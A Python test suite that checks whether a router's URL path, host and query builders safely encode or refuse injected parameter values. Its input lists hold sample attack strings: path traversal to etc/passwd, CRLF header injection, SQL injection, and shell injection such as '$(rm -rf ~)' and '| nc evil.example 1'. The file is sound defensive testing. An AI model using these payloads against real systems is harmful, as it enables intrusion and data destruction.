from __future__ import annotations

from urllib.parse import parse_qsl, unquote, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from yarl import URL

from router.errors import InvalidRequest
from router.functions.request_target import filled_host, filled_path, host_complaint, path_complaint, with_query
from router.upstream.request import RequestHead

HOSTILE = [
    "../admin",
    "..",
    ".",
    "%2e%2e",
    "..%2f..%2fetc/passwd",
    "a/b",
    "a\\b",
    "%2F",
    "%252F",
    "",
    "a\0b",
    "%00",
]
INERT = [
    "Seattle, WA",
    "x?admin=1",
    "x#fragment",
    "x&admin=1",
    "x;y=1",
    "user@evil.example",
    "x HTTP\r\nhost: evil.example\r\n\r\nGET ",
    "'; DROP TABLE cities; --",
    '" OR "1"="1',
    "$(rm -rf ~)",
    "`id`",
    "| nc evil.example 1",
    "{days}",
    "Zürich 東京 🌧",
    "100%",
    "...",
    "a..b",
]


@pytest.mark.parametrize("value", INERT)
def test_what_means_something_elsewhere_is_one_segment_in_a_path(value: str) -> None:
    path = filled_path("/v1/{city}/days", {"city": value, "days": 3})
    parts = path.split("/")
    assert (parts[:2], parts[3:]) == (["", "v1"], ["days"])
    assert unquote(parts[2]) == value
    assert not set(path) & set("?#\r\n \0")


@pytest.mark.parametrize("value", HOSTILE)
def test_what_could_change_the_structure_of_a_path_is_refused(value: str) -> None:
    assert path_complaint(value) is not None
    with pytest.raises(InvalidRequest) as refused:
        filled_path("/v1/{city}/days", {"city": value})
    assert refused.value.param == "city"


def test_several_values_in_one_segment_are_no_step_up_either() -> None:
    assert filled_path("/{a}{b}/x", {"a": "v", "b": "2"}) == "/v2/x"
    for template, arguments in (
        ("/{a}{b}/x", {"a": ".", "b": "."}),
        ("/.{a}/x", {"a": "."}),
        ("/{a}/x", {"a": "%2e."}),
    ):
        with pytest.raises(InvalidRequest):
            filled_path(template, arguments)


@pytest.mark.parametrize("value", [*INERT, *HOSTILE[:-3]])
def test_a_value_in_a_query_stays_a_value(value: str) -> None:
    target = with_query(filled_path("/search?units={unit}", {"unit": value}), [("q", value), ("page", 2)])
    assert parse_qsl(urlsplit(target).query, keep_blank_values=True, strict_parsing=bool(value)) == [
        ("units", value),
        ("q", value),
        ("page", "2"),
    ]
    assert urlsplit(target).path == "/search"


def test_values_other_than_texts_have_their_json_form() -> None:
    pairs = [("tags", ["a", "b c"]), ("flag", True), ("price", 9.5), ("box", {"w": 1})]
    assert with_query("/x", pairs) == "/x?tags=a&tags=b%20c&flag=true&price=9.5&box=%7B%22w%22%3A1%7D"
    assert filled_path("/x/{ids}", {"ids": [1, 2]}) == "/x/1%2C2"
    assert path_complaint({"w": 1}) is not None


@pytest.mark.parametrize(
    "value", ["evil.example", "a.b", "evil.example#", "x@evil", "x:81", "-a", "a-", "", "x/", "ü", "a b"]
)
def test_a_part_of_a_host_can_only_be_one_label(value: str) -> None:
    assert host_complaint("{region}.api.example.com", value) is not None
    with pytest.raises(InvalidRequest) as refused:
        filled_host("{region}.api.example.com:8443", {"region": value})
    assert refused.value.param == "region"


def test_a_host_that_a_parameter_is_all_of_is_a_name_and_keeps_its_port() -> None:
    assert filled_host("{region}.api.example.com:8443", {"region": "eu-1"}) == "eu-1.api.example.com:8443"
    assert filled_host("{host}:81", {"host": "api.example.com"}) == "api.example.com:81"
    for value in ("a..b", "a.", "u:p@h", "h:80", "h/x", "h?x", "[::1]", "x" * 64, ".".join(["abc"] * 80)):
        with pytest.raises(InvalidRequest):
            filled_host("{host}:81", {"host": value})


def test_parameters_that_are_too_long_for_a_request_are_refused() -> None:
    with pytest.raises(InvalidRequest, match="too long"):
        with_query("/x", [("q", "a" * 20_000)])


@given(st.text(), st.text())
def test_no_text_ever_leaves_its_place(in_path: str, in_query: str) -> None:
    try:
        target = with_query(filled_path("/api/{a}/end", {"a": in_path}), [("q", in_query)])
    except InvalidRequest:
        return
    url = URL(f"http://host:1{target}", encoded=True)
    assert (url.host, url.port) == ("host", 1)
    parts = urlsplit(target).path.split("/")
    assert (len(parts), parts[1], parts[3]) == (4, "api", "end")
    assert unquote(parts[2]) not in {"", ".", ".."}
    assert parse_qsl(urlsplit(target).query, keep_blank_values=True) == [("q", in_query)]
    head = RequestHead(url, {}, "GET").encode({}, 0)
    assert head.count(b"\r\n\r\n") == 1
    assert head.startswith(f"GET {target} HTTP/1.1\r\n".encode())


@given(st.text())
def test_no_text_ever_leaves_its_label(value: str) -> None:
    try:
        host = filled_host("{region}.api.example.com", {"region": value})
    except InvalidRequest:
        return
    assert URL(f"http://{host}/", encoded=True).host == host.lower()
    assert host.endswith(".api.example.com")
    assert host.count(".") == 3
